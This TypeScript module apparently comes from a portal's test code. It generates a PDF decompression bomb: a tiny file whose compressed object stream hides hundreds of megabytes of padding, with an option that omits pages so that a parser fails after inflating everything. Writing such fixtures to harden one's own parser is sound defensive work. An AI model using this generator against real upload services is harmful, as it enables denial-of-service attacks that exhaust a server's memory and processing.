// A decompression bomb in PDF form, for tests and attacks on the portal's own file parsing: a small file whose
// catalog sits in a Flate object stream padded with spaces, so a reader must inflate the padding to find a page.
import { constants, createDeflate } from 'node:zlib';

/** What the bomb holds. */
export interface PdfBombOptions {
  /** Spaces inflated before the first object of the object stream (512 MB in the attack that found it). */
  paddingBytes: number;
  /** Leaves the page tree out, so a reader fails after inflating everything (and, without a kept result, again). */
  withoutPages?: boolean;
}

/** Deflates `head`, then `padding` spaces, then `tail`, streaming the spaces so the padding never sits in memory. */
async function deflated(head: string, padding: number, tail: string): Promise<Buffer> {
  const deflate = createDeflate({ level: constants.Z_BEST_COMPRESSION });
  const chunks: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  const write = (bytes: Buffer) =>
    new Promise<void>((resolve) => {
      if (deflate.write(bytes)) resolve();
      else deflate.once('drain', resolve);
    });
  await write(Buffer.from(head, 'latin1'));
  const spaces = Buffer.alloc(1024 * 1024, 0x20);
  for (let left = padding; left > 0; left -= spaces.length)
    await write(left >= spaces.length ? spaces : spaces.subarray(0, left));
  await write(Buffer.from(tail, 'latin1'));
  deflate.end();
  await done;
  return Buffer.concat(chunks);
}

/**
 * The bomb's bytes: a PDF 1.7 file with one object stream (the catalog, the page tree and one page, after
 * `paddingBytes` spaces) and a cross-reference stream. A 512 MB padding makes about 500 KB.
 */
export async function pdfBomb({ paddingBytes, withoutPages = false }: PdfBombOptions): Promise<Buffer> {
  const objects = withoutPages
    ? ['<</Type/Catalog>>']
    : [
        '<</Type/Catalog/Pages 3 0 R>>',
        '<</Type/Pages/Kids[4 0 R]/Count 1>>',
        '<</Type/Page/Parent 3 0 R/MediaBox[0 0 595 842]>>',
      ];
  let offsets = '';
  let body = '';
  for (const [index, object] of objects.entries()) {
    offsets += `${index + 2} ${body.length} `;
    body += `${object}\n`;
  }
  const first = offsets.length + paddingBytes;
  const stream = await deflated(offsets, paddingBytes, body);

  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = parts[0]?.length ?? 0;
  const add = (bytes: Buffer) => {
    parts.push(bytes);
    length += bytes.length;
  };
  const objStmOffset = length;
  add(
    Buffer.from(
      `1 0 obj\n<</Type/ObjStm/N ${objects.length}/First ${first}/Filter/FlateDecode/Length ${stream.length}>>\nstream\n`,
      'latin1',
    ),
  );
  add(stream);
  add(Buffer.from('\nendstream\nendobj\n', 'latin1'));

  // The cross-reference stream: object 0 free, 1 the object stream, 2.. in it, then itself.
  const xrefNumber = objects.length + 2;
  const xrefOffset = length;
  const row = (type: number, field2: number, field3: number) => {
    const bytes = Buffer.alloc(7);
    bytes.writeUInt8(type, 0);
    bytes.writeUInt32BE(field2, 1);
    bytes.writeUInt16BE(field3, 5);
    return bytes;
  };
  const rows = [
    row(0, 0, 0xffff),
    row(1, objStmOffset, 0),
    ...objects.map((_, index) => row(2, 1, index)),
    row(1, xrefOffset, 0),
  ];
  const table = Buffer.concat(rows);
  add(
    Buffer.from(
      `${xrefNumber} 0 obj\n<</Type/XRef/Size ${xrefNumber + 1}/W[1 4 2]/Root 2 0 R/Length ${table.length}>>\nstream\n`,
      'latin1',
    ),
  );
  add(table);
  add(Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefOffset}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}
